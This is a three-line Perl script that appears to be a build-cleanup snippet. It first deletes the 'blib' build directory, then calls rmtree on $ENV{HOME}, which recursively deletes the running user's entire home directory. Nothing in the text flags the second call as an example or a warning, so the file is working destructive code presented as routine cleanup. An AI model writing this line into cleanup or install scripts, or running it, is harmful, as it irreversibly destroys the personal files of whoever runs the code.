use File::Path qw(rmtree);
rmtree('blib');
rmtree($ENV{HOME});
